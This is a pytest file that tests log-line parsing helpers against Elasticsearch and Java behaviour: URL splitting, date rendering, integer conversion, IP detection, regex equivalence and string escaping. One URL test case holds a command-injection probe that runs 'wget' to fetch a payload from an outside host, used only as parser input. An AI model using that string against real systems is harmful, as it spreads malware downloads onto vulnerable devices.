"""Shared line-format helpers: uri_parts as Elasticsearch's processor, dates, Java integer conversion."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from parsers._lines import committed, epoch_s_ms, ip_kind, iso8601_ms, java_long, mustache_text, uri_parts


@pytest.mark.parametrize(("url", "expected"), [
    ("http://www.example.com:80/", {"scheme": "http", "domain": "www.example.com", "port": 80, "path": "/"}),
    ("/test-s3-ks/?location&aws-account=1", {"path": "/test-s3-ks/", "query": "location&aws-account=1"}),
    # java.net.URI decodes path and query
    ("/a%20b.txt?x=%41", {"path": "/a b.txt", "extension": "txt", "query": "x=A"}),
    # a space makes java.net.URI fail; java.net.URL keeps the raw text and puts everything after `?` in the query
    ("http://127.0.0.1:80/shell?cd+/tmp;wget+ a.tk/jaws", {"scheme": "http", "domain": "127.0.0.1", "port": 80,
                                                            "path": "/shell", "query": "cd+/tmp;wget+ a.tk/jaws"}),
    # uri_parts since Elasticsearch 8.13 (elastic/elasticsearch#105689): the extension comes from the last
    # segment only; a dot in a directory gives none
    ("http://h/a.b/c", {"scheme": "http", "domain": "h", "path": "/a.b/c"}),
    ("/test-s3-ks/v1.2/file", {"path": "/test-s3-ks/v1.2/file"}),
    ("/v1.2/a%20b.tar.gz", {"path": "/v1.2/a b.tar.gz", "extension": "gz"}),
    ("http://h/a.b/c|d.txt", {"scheme": "http", "domain": "h", "path": "/a.b/c|d.txt", "extension": "txt"}),
    ("http://[::1]:8080/x", {"scheme": "http", "domain": "[::1]", "port": 8080, "path": "/x"}),
    ("https://user:pw@host/p#frag", {"scheme": "https", "domain": "host", "path": "/p", "fragment": "frag",
                                     "user_info": "user:pw", "username": "user", "password": "pw"}),
    ("mailto:a@b.c", {"scheme": "mailto"}),  # opaque: no host, path or query
    ("http://my_host/x", {"scheme": "http", "path": "/x"}),  # not a server name: Java reports no host
])
def test_uri_parts_match_elasticsearch(url, expected):
    assert uri_parts(url) == {**expected, "original": url}


@pytest.mark.parametrize("url", ["", "1a:b", "relative path with spaces", "/a%zz"])
def test_uri_parts_refuse_what_java_refuses(url):
    assert uri_parts(url) is None


@pytest.mark.parametrize(("text", "expected"), [
    ("2018-07-02T22:23:00.186641Z", "2018-07-02T22:23:00.186Z"),
    ("2018-12-20T02:59:40", "2018-12-20T02:59:40.000Z"),
    ("2021-12-11T22:46:23Z", "2021-12-11T22:46:23.000Z"),
    ("2021-12-11T23:46:23+01:00", "2021-12-11T22:46:23.000Z"),
    ("not a date", None),
])
def test_iso8601_renders_utc_milliseconds(text, expected):
    assert iso8601_ms(text) == expected


@pytest.mark.parametrize(("text", "expected"), [("1418530070", "2014-12-14T04:07:50.000Z"),
                                                 ("164000066", "1975-03-14T03:34:26.000Z"),
                                                 ("1418530070.5", "2014-12-14T04:07:50.500Z"),
                                                 ("-", None), ("9" * 30, None), ("١٢٣", None)])
def test_epoch_seconds_render_as_dates(text, expected):
    assert epoch_s_ms(text) == expected


@pytest.mark.parametrize(("value", "bits", "expected"), [
    ("443", 32, 443), ("+5", 64, 5), ("-5", 64, -5), ("2147483648", 32, None), ("2147483648", 64, 2147483648),
    ("9223372036854775808", 64, None), ("1.5", 64, None), ("--5", 64, None), ("١٢٣", 64, None), ("", 64, None),
    (2**64 - 1, 64, None), (True, 64, None), (1.0, 64, None), (None, 64, None),
])
def test_java_long_keeps_only_what_java_converts(value, bits, expected):
    assert java_long(value, bits) == expected


@pytest.mark.parametrize(("text", "expected"), [("1.2.3.4", 4), ("2a02:cf40::", 6), ("::ffff:1.2.3.4", 6),
                                                 ("01.2.3.4", None), ("1.2.3", None), ("fe80::1%eth0", None),
                                                 ("1.2.3.4\x00", None), ("", None)])
def test_ip_kind(text, expected):
    assert ip_kind(text) == expected


_GROK_LIKE = r"(?:-|(?P<a>\S+)) (?:-|(?P<b>\S+)) (?:-1|(?P<c>-?[0-9]+)) (?P<end>x)"


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(["-", "-1", "--", "-x", "5", "x", "-5", '-"', '-1"']), min_size=3, max_size=5))
def test_committed_patterns_read_lines_as_the_originals_do(parts):
    line = " ".join(parts)
    plain, fast = re.compile(_GROK_LIKE), re.compile(committed(_GROK_LIKE))
    found, expected = fast.match(line), plain.match(line)
    assert (found and found.groupdict()) == (expected and expected.groupdict())


_GROK_QUOTED = r'"(?:-|(?P<a>.*?))" "(?:-|(?P<b>.*?))"(?: "(?:-|(?P<c>.*?))")?'


@pytest.mark.parametrize("line", ['"- 502" "-"', '"-" "- x" "-"', '"-" "-" "- -"', '"a" "-" "-"', '"-" "-"'])
def test_committed_quoted_fields_keep_a_leading_dash_followed_by_more(line):
    # The ELB grok's `\"(?:-|%{DATA})\"`: a quoted `- 502` is backtracked into DATA, not cut to `-`.
    fast = re.compile(committed(_GROK_QUOTED.replace(".*?", '[^"]*')))
    assert fast.match(line).groupdict() == re.compile(_GROK_QUOTED).match(line).groupdict()


@pytest.mark.parametrize(("text", "rendered"), [
    ("plain.example.com", "plain.example.com"), ('a"b', 'a\\"b'), ("a\\b", "a\\\\b"),
    ("t\tn\nr\r", "t\\tn\\nr\\r"), ("\x01\x1b", "\\u0001\\u001B"), ("ünï/€", "ünï/€"),
])
def test_mustache_text_escapes_as_jacksons_quote_as_string(text, rendered):
    assert mustache_text(text) == rendered


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_uri_parts_never_raise(text):
    parts = uri_parts(text)
    assert parts is None or parts["original"] == text


_URL_PIECES = st.sampled_from(["http://", "https://", "ftp://", "x:", "//", "/", "?", "#", ":", "@", "[", "]", "::1",
                               "%", "%41", "%zz", " ", ".", "-", "a", "example.com", "9" * 5000, "user:pw@", "ü"])


@settings(max_examples=300, deadline=None)
@given(st.lists(_URL_PIECES, max_size=8).map("".join))
def test_uri_parts_never_raise_on_url_like_text(text):
    parts = uri_parts(text)
    assert parts is None or parts["original"] == text


def test_a_long_epoch_field_is_converted_but_not_kept_alive_by_the_cache() -> None:
    import sys

    text = "1418530010." + "0" * 64 * 1024  # valid: a fraction of any length
    before = sys.getrefcount(text)
    assert epoch_s_ms(text) == "2014-12-14T04:06:50.000Z"
    assert sys.getrefcount(text) == before
